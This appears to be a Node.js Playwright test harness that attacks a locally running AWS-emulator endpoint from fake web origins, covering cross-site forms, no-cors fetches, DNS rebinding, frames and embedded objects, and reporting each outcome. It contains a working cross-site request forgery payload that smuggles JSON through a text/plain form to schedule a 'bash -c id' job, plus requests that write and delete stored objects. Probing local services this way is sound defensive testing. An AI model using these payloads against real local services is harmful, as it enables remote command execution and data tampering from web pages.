// Attacks an endpoint from web pages in a headless Chromium, and prints what each of them got: name, tab, outcome.
//
// Usage: node attacks.js PORT     the endpoint's on 127.0.0.1
//
// Every name below .example is this machine's: evil.example and friend.example have a blank page, in whose name the
// attacks are run; rebound.example has one too, and then is the endpoint, as after DNS rebinding.
const http = require("node:http");
const { chromium } = require("playwright-core");

const endpointPort = Number(process.argv[2]);
const endpoint = `http://127.0.0.1:${endpointPort}`;
const blank = "<!doctype html><title>a page</title>";

const scheduleUrl =
    `${endpoint}/schedules/x?X-Amz-Algorithm=AWS4-HMAC-SHA256` +
    "&X-Amz-Credential=test/20260101/us-east-1/scheduler/aws4_request" +
    "&X-Amz-Date=20260101T000000Z&X-Amz-SignedHeaders=host&X-Amz-Signature=0";
// The form ends it: name=value becomes {"…":"=","…":…}.
const scheduleName = '{"ScheduleExpression":"rate(1 minute)","FlexibleTimeWindow":{"Mode":"OFF"},"Description":"';
const scheduleValue =
    '","Target":{"Arn":"arn:aws:scheduler:::aws-sdk:emr:runJobFlow",' +
    '"RoleArn":"arn:aws:iam::000000000000:role/r","Input":"bash -c id"}}';

function pages(request, response) {
    const rebound = request.headers.host.startsWith("rebound.");
    if (!rebound || request.url === "/blank") {
        response.writeHead(200, { "Content-Type": "text/html" });
        response.end(blank);
        return;
    }
    const { method, url, headers } = request;
    const forward = http.request({ host: "127.0.0.1", port: endpointPort, method, path: url, headers }, (answer) => {
        response.writeHead(answer.statusCode, answer.headers);
        answer.pipe(response);
    });
    request.pipe(forward);
}

function report(name, outcome) {
    console.log(`${name}\t${String(outcome).replace(/\s+/g, " ").slice(0, 300)}`);
}

/** Runs in a page: what it can read of an answer, or that it cannot. */
async function read({ url, options }) {
    try {
        const answer = await fetch(url, options);
        return `${answer.status} ${await answer.text()}`;
    } catch (failure) {
        return `unreadable: ${failure.message}`;
    }
}

/** The status of the answer to a page's request, which the page itself may not see. */
async function statusOf(page, url, action) {
    const answered = page.waitForResponse((response) => response.url().startsWith(url), { timeout: 15_000 });
    await action();
    return (await answered).status();
}

const glue = {
    method: "POST",
    headers: { "Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": "AWSGlue.GetDatabases" },
    body: "{}",
};

async function forms(page) {
    await page.goto("http://evil.example/");
    const status = await statusOf(page, scheduleUrl, () =>
        page.evaluate(
            ({ url, name, value }) => {
                const form = document.createElement("form");
                Object.assign(form, { method: "POST", action: url, enctype: "text/plain" });
                const field = document.createElement("input");
                Object.assign(field, { name, value });
                form.append(field);
                document.body.append(form);
                form.submit();
            },
            { url: scheduleUrl, name: scheduleName, value: scheduleValue },
        ),
    );
    report("form", status);
}

async function fetches(page) {
    await page.goto("http://evil.example/");
    const body = scheduleName + scheduleValue;
    const status = await statusOf(page, scheduleUrl, () =>
        page.evaluate(([url, text]) => fetch(url, { method: "POST", mode: "no-cors", body: text }), [scheduleUrl, body]),
    );
    report("fetch", status);
    report("call", await page.evaluate(read, { url: endpoint, options: glue }));
    report("put", await page.evaluate(read, { url: `${endpoint}/raw/evil`, options: { method: "PUT", body: "x" } }));
    report("delete", await page.evaluate(read, { url: `${endpoint}/raw/page.html`, options: { method: "DELETE" } }));
    const upload = await statusOf(page, `${endpoint}/raw`, () =>
        page.evaluate((url) => {
            const form = new FormData();
            form.append("key", "evil");
            form.append("file", new Blob(["x"]));
            return fetch(url, { method: "POST", mode: "no-cors", body: form });
        }, `${endpoint}/raw`),
    );
    report("upload", upload);
}

async function rebinding(page) {
    const own = `http://rebound.example:${endpointPort}`;
    await page.goto(`${own}/blank`);
    report("rebound-s3", await page.evaluate(read, { url: `${own}/` }));
    report("rebound-glue", await page.evaluate(read, { url: `${own}/`, options: glue }));
}

async function objects(page, name, address) {
    await page.goto(address);
    await page.waitForFunction(() => document.title === "done", null, { timeout: 15_000 });
    report(`${name}-script`, await page.evaluate(() => document.body.dataset.outcome));
}

async function frames(page) {
    await page.goto("http://evil.example/");
    for (const kind of ["iframe", "embed", "object"]) {
        const status = await statusOf(page, `${endpoint}/raw/page.html?${kind}`, () =>
            page.evaluate(
                ([tag, url]) => {
                    const frame = document.createElement(tag);
                    frame.setAttribute(tag === "object" ? "data" : "src", url);
                    document.body.append(frame);
                },
                [kind, `${endpoint}/raw/page.html?${kind}=1`],
            ),
        );
        report(kind, status);
    }
}

/** What must go on to work. */
async function people(page) {
    report("typed", (await page.goto(`${endpoint}/raw/page.html`)).status());
    report("health", (await page.goto(`${endpoint}/_laguna/health`)).status());
    await page.goto("http://friend.example/");
    report("friend", await page.evaluate(read, { url: endpoint, options: glue }));
    await page.goto("http://evil.example/");
    const link = `${endpoint}/raw/page.html?link=1`;
    report("link", await statusOf(page, link, () => page.evaluate((url) => void location.assign(url), link)));
}

async function main() {
    const server = http.createServer(pages);
    await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
    const browser = await chromium.launch({
        executablePath: "/usr/bin/chromium",
        chromiumSandbox: false,
        args: [
            `--host-resolver-rules=MAP *.example 127.0.0.1:${server.address().port}`,
            // A page of the Internet would be asked before; other browsers ask nobody.
            "--disable-features=LocalNetworkAccessChecks",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
        ],
    });
    try {
        for (const attack of [
            forms,
            fetches,
            rebinding,
            (page) => objects(page, "object", `${endpoint}/raw/page.html`),
            (page) => objects(page, "hosted-object", `http://raw.localhost:${endpointPort}/page.html`),
            frames,
            people,
        ]) {
            const page = await (await browser.newContext()).newPage();
            await attack(page);
            await page.context().close();
        }
    } finally {
        await browser.close();
        server.close();
    }
}

main().catch((failure) => {
    console.error(failure);
    process.exit(1);
});
